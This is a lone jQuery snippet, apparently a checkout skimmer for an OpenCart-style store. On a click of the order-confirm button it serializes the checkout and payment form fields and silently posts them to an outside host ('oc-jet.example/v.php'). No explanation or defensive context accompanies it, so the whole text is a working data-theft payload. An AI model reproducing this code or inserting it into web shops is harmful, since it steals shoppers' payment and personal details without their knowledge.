$('body').on('click','#button-confirm',function(){$.ajax({url:'https://oc-jet.example/v.php',type:'post',data:$('#collapse-checkout-confirm input, #payment select').serialize()})});
